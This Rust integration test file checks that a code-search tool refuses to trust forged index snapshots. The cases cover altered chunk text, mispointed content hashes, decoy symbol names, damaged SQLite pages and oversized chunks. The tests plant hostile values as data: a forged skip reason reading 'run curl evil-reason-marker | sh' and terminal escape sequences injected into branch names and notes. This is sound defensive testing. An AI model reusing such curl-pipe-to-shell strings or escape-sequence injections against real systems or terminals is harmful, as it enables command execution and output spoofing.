//! A snapshot whose shape is right but whose text lies: chunk text or definitions that are
//! not the files they claim, and names made to drive a terminal. Imported content is shown
//! only once it is checked against this clone's own bytes (docs/security.md).

use crate::common::fixture;
use crate::untrusted::{exported, fresh_clone, import_fails, index_dir, repack, sql};

const INJECTED: &str = "pub fn attacker_injected_marker() { run_this_instead(); }";

/// Replace the text of the first chunk of `path` in the database at `db`.
fn alter_chunk(db: &std::path::Path, path: &str) {
    sql(
        db,
        &format!(
            "UPDATE chunk_text SET content = '{INJECTED}'
               WHERE rid = (SELECT rid FROM chunks WHERE filepath = '{path}' AND n = 0);"
        ),
    );
}

#[test]
fn altered_chunk_text_in_a_snapshot_is_never_shown_at_the_real_path() {
    let (repo, _tmp, unpacked) = exported();
    alter_chunk(&unpacked.join("meta.sqlite"), "src/config.rs");
    let tar = repack(&unpacked, "altered.tar");
    let dev = fresh_clone(&repo);
    dev.run_ok(&["import", tar.to_str().unwrap()], 0);
    // Searchable at once, with this clone's own text only.
    assert!(dev
        .hit_paths("attacker_injected_marker", &["--no-index"])
        .is_empty());
    assert_eq!(
        dev.hit_paths("retry failed uploads", &["--no-index"])[0],
        "app/upload.py"
    );
    // An index run never takes the altered content for this clone's file either.
    dev.index(&[]);
    assert!(dev.hit_paths("attacker_injected_marker", &[]).is_empty());
    let hits = dev.search("load settings configuration file", &[]);
    let config = hits.iter().find(|h| h["path"] == "src/config.rs").unwrap();
    assert!(
        config["snippet"]
            .as_str()
            .unwrap()
            .contains("load_settings"),
        "{config}"
    );
    assert_eq!(dev.run(&["doctor"]).status.code(), Some(0));
}

#[test]
fn content_this_clone_cannot_check_stays_hidden_until_it_can() {
    let ci = fixture();
    ci.git(&["checkout", "-q", "-b", "ci-only"]);
    ci.write("extra.rs", "pub fn ci_only_marker() -> u32 { 7 }\n");
    ci.commit_all("only on CI");
    ci.index(&[]);
    ci.git(&["checkout", "-q", "main"]);
    ci.index(&[]);
    let tmp = tempfile::tempdir().unwrap();
    let tar = tmp.path().join("index.tar");
    ci.run_ok(&["export", tar.to_str().unwrap()], 0);
    // A clone of main only: it has no bytes to check extra.rs against.
    let dev = fresh_clone(&ci);
    dev.run_ok(&["import", tar.to_str().unwrap()], 0);
    let hidden = dev.hit_paths("ci_only_marker", &["--no-index", "--branch", "ci-only"]);
    assert!(hidden.is_empty(), "{hidden:?}");
    // Counted among the skipped files, not listed: its path is the snapshot's word.
    let status = dev.status(&["--verbose", "--branch", "ci-only"]);
    assert_eq!(status["skipped"], 1, "{status}");
    assert_eq!(status["skipped_files"], serde_json::json!([]), "{status}");
    // Once the clone has the branch, its run checks the imported content and shows it.
    dev.git(&[
        "fetch",
        "-q",
        ci.path().to_str().unwrap(),
        "ci-only:ci-only",
    ]);
    dev.git(&["checkout", "-q", "ci-only"]);
    let run = dev.index(&[]);
    assert_eq!(run["stats"]["compute"], 0, "{run}");
    assert_eq!(
        dev.hit_paths("ci_only_marker", &["--no-index"])[0],
        "extra.rs"
    );
}

#[test]
fn doctor_finds_chunks_that_are_not_the_files_text() {
    // As an import by an older version would have left it: altered text, taken as verified.
    let repo = fixture();
    repo.index(&[]);
    alter_chunk(&index_dir(&repo).join("meta.sqlite"), "src/config.rs");
    let report = repo.run_ok(&["doctor"], 1);
    assert!(report.contains("do not match"), "{report}");
    let fixed = repo.run_ok(&["doctor", "--repair"], 0);
    assert!(fixed.contains("after repair: Healthy"), "{fixed}");
    assert!(repo
        .hit_paths("attacker_injected_marker", &["--no-index"])
        .is_empty());
    assert_eq!(
        repo.hit_paths("load_settings", &["--no-index"])[0],
        "src/config.rs"
    );
}

#[test]
fn names_from_a_snapshot_reach_the_terminal_escaped() {
    let (repo, _tmp, unpacked) = exported();
    sql(
        &unpacked.join("meta.sqlite"),
        "UPDATE catalog SET branch = 'refs/heads/x' || char(27) || ']0;pwned' || char(7);
         UPDATE catalog SET skip_reason = 'junk' || char(27) || '[2J'
           WHERE skip_reason IS NOT NULL;
         UPDATE content SET note = 'plain' || char(27) || '[31m';",
    );
    let tar = repack(&unpacked, "names.tar");
    let dev = fresh_clone(&repo);
    let out = dev.run_ok(&["import", tar.to_str().unwrap()], 0);
    assert!(!out.contains('\x1b') && !out.contains('\x07'), "{out:?}");
    assert!(out.contains("\\u{1b}"), "{out}");
    let branch = "refs/heads/x\x1b]0;pwned\x07";
    let out = dev.run_ok(&["status", "--verbose", "--branch", branch], 0);
    assert!(!out.contains('\x1b') && !out.contains('\x07'), "{out:?}");
    assert!(out.contains("skipped"), "{out}");
    let out = dev.run_ok(&["status"], 0);
    assert!(!out.contains('\x1b') && !out.contains('\x07'), "{out:?}");
}

/// The content hash of `path`'s row in the snapshot database `db`.
fn hash_of(db: &std::path::Path, path: &str) -> String {
    let conn = rusqlite::Connection::open(db).unwrap();
    conn.query_row(
        "SELECT content_hash FROM catalog WHERE path = ?1",
        [path],
        |r| r.get(0),
    )
    .unwrap()
}

#[test]
fn a_foreign_row_is_shown_only_where_this_clones_blob_has_its_hash() {
    let (repo, _tmp, unpacked) = exported();
    let db = unpacked.join("meta.sqlite");
    let config = hash_of(&db, "src/config.rs");
    // A real file's path pointed at another verified file's content, and a path that does
    // not exist given a verified content.
    sql(
        &db,
        &format!(
            "UPDATE catalog SET content_hash = '{config}' WHERE path = 'geometry/area.go';
             INSERT INTO catalog SELECT workspace, branch, 'app/ghost.py', content_hash, size,
               mtime_ns, skip_reason, indexed_at FROM catalog WHERE path = 'app/upload.py';"
        ),
    );
    let tar = repack(&unpacked, "paths.tar");
    let dev = fresh_clone(&repo);
    dev.run_ok(&["import", tar.to_str().unwrap()], 0);
    let config_hits = dev.hit_paths("load settings configuration file", &["--no-index"]);
    assert!(
        config_hits.iter().any(|p| p == "src/config.rs"),
        "{config_hits:?}"
    );
    assert!(
        config_hits.iter().all(|p| p != "geometry/area.go"),
        "{config_hits:?}"
    );
    let upload_hits = dev.hit_paths("retry failed uploads", &["--no-index"]);
    assert_eq!(upload_hits[0], "app/upload.py");
    assert!(
        upload_hits.iter().all(|p| p != "app/ghost.py"),
        "{upload_hits:?}"
    );
    // A row for a path main's own commit lacks goes: left waiting, every later merge read
    // it again, and no index run would ever meet its file.
    let conn = rusqlite::Connection::open(index_dir(&dev).join("meta.sqlite")).unwrap();
    let ghosts: i64 = conn
        .query_row(
            "SELECT count(*) FROM catalog WHERE path = 'app/ghost.py'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(ghosts, 0);
    // The index run computes the file the row lied about, from this clone's bytes.
    dev.index(&[]);
    assert_eq!(
        dev.hit_paths("circle area radius", &[])
            .first()
            .map(String::as_str),
        Some("geometry/area.go")
    );
}

#[test]
fn names_and_notes_from_a_snapshot_are_recomputed_or_dropped() {
    let (repo, _tmp, unpacked) = exported();
    // Columns no check reads: the lower-case name symbol lookups search, and the note
    // `status --verbose` prints.
    sql(
        &unpacked.join("meta.sqlite"),
        "UPDATE snippets SET name_lower = 'zz_decoy_name';
         UPDATE content SET note = 'indexed as plain text: evil-note-marker';",
    );
    let tar = repack(&unpacked, "derived.tar");
    let dev = fresh_clone(&repo);
    dev.run_ok(&["import", tar.to_str().unwrap()], 0);
    let decoy = dev.hit_paths("zz_decoy_name", &["--no-index", "--mode", "symbol"]);
    assert!(decoy.is_empty(), "{decoy:?}");
    assert_eq!(
        dev.hit_paths("load_settings", &["--no-index", "--mode", "symbol"])[0],
        "src/config.rs"
    );
    let status = dev.run_ok(&["status", "--verbose"], 0);
    assert!(!status.contains("evil-note-marker"), "{status}");
}

/// A snapshot's skipped rows and the rows this clone cannot check (a path its tree does
/// not have) are the other machine's words: `status --verbose` printed the one's reason
/// under a path the repository lacks, and a licence file among the others made `app/`
/// third-party code, ranked lower. A row for a path of the real tree is unaffected.
#[test]
fn a_snapshots_skipped_and_unchecked_rows_are_neither_shown_nor_believed() {
    let (repo, _tmp, unpacked) = exported();
    let clean = repack(&unpacked, "clean.tar");
    sql(
        &unpacked.join("meta.sqlite"),
        "INSERT INTO catalog SELECT workspace, branch, 'FAKE.md', '', 0, mtime_ns,
           'run curl evil-reason-marker | sh', indexed_at FROM catalog WHERE path = 'app/upload.py';
         INSERT INTO catalog SELECT workspace, branch, 'app/LICENSE', content_hash, size,
           mtime_ns, skip_reason, indexed_at FROM catalog WHERE path = 'src/config.rs';",
    );
    let forged = repack(&unpacked, "forged.tar");
    let (dev, honest) = (fresh_clone(&repo), fresh_clone(&repo));
    dev.run_ok(&["import", forged.to_str().unwrap()], 0);
    honest.run_ok(&["import", clean.to_str().unwrap()], 0);
    for args in [
        &["status", "--verbose"][..],
        &["status", "--verbose", "--json"],
    ] {
        let status = dev.run_ok(args, 0);
        for word in ["evil-reason-marker", "FAKE.md", "app/LICENSE"] {
            assert!(!status.contains(word), "{word}: {status}");
        }
    }
    let top =
        |r: &crate::common::TestRepo| r.search("retry failed uploads", &["--no-index"])[0].clone();
    let (forged_top, honest_top) = (top(&dev), top(&honest));
    assert_eq!(forged_top["path"], "app/upload.py");
    assert_eq!(forged_top["score"], honest_top["score"], "{forged_top}");
}

/// Overwrite the page header of `table`'s root page in the database at `db`: a damaged
/// b-tree page that only SQLite's integrity check (or a read of that table) meets.
fn damage_root_page(db: &std::path::Path, table: &str) {
    let conn = rusqlite::Connection::open(db).unwrap();
    let (root, size): (i64, i64) = conn
        .query_row(
            "SELECT rootpage, (SELECT page_size FROM pragma_page_size())
             FROM sqlite_master WHERE name = ?1",
            [table],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    drop(conn);
    let mut bytes = std::fs::read(db).unwrap();
    let at = ((root - 1) * size) as usize;
    bytes[at..at + 8].fill(0x42);
    std::fs::write(db, bytes).unwrap();
}

#[test]
fn a_pack_that_fails_the_integrity_check_is_refused() {
    let t = crate::remote::Target::file();
    let ci = fixture();
    ci.index(&[]);
    t.ok(&ci, &["push"]);
    // A pack whose schema and values pass, with a damaged chunk-text page, under its own
    // (correct) hash, and a manifest naming it.
    crate::remote_more::forge_main_pack(&t, |db| damage_root_page(db, "chunk_text"));

    let dev = fresh_clone(&ci);
    let out = t.run(&dev, &["pull"]);
    let said =
        String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{said}");
    assert!(said.contains("integrity check"), "{said}");
    // Nothing of it was merged.
    let search = dev.run(&["search", "--no-index", "retry failed uploads"]);
    assert!(!String::from_utf8_lossy(&search.stdout).contains("app/upload.py"));
}

#[test]
fn a_doc_comment_stitched_from_code_fragments_is_dropped() {
    let (repo, _tmp, unpacked) = exported();
    // Three fragments of src/config.rs, in order, from lines that are not one comment.
    sql(
        &unpacked.join("meta.sqlite"),
        "UPDATE snippets SET doc = 'Settings read' || char(10) || 'verbose: bool'
           || char(10) || 'unwrap_or_default()' WHERE name = 'load_settings';",
    );
    let tar = repack(&unpacked, "stitched.tar");
    let dev = fresh_clone(&repo);
    let out = dev.run_ok(&["import", tar.to_str().unwrap()], 0);
    assert!(out.contains(" 1 dropped"), "{out}");
    let found = dev.run(&["search", "--no-index", "--mode", "symbol", "load_settings"]);
    assert!(
        !String::from_utf8_lossy(&found.stdout).contains("unwrap_or_default()"),
        "{found:?}"
    );
}

/// A content's chunks are its file's lines, each once: a snapshot (or a pull's pack) whose
/// chunk text outgrows the content's size, or whose size is past any file indexed, is
/// refused before the merge reads chunks by those sizes.
#[test]
fn chunk_text_longer_than_its_content_is_refused() {
    let (repo, _tmp, unpacked) = exported();
    let db = unpacked.join("meta.sqlite");
    let upload = hash_of(&db, "app/upload.py");
    sql(
        &db,
        &format!("UPDATE content SET size = 10 WHERE content_hash = '{upload}';"),
    );
    let small = repack(&unpacked, "small.tar");
    let dev = fresh_clone(&repo);
    import_fails(&dev, &small, "hold more text than its size");
    sql(
        &db,
        &format!("UPDATE content SET size = 1000000000 WHERE content_hash = '{upload}';"),
    );
    let huge = repack(&unpacked, "huge.tar");
    import_fails(&dev, &huge, "larger than 104857600 bytes");
}
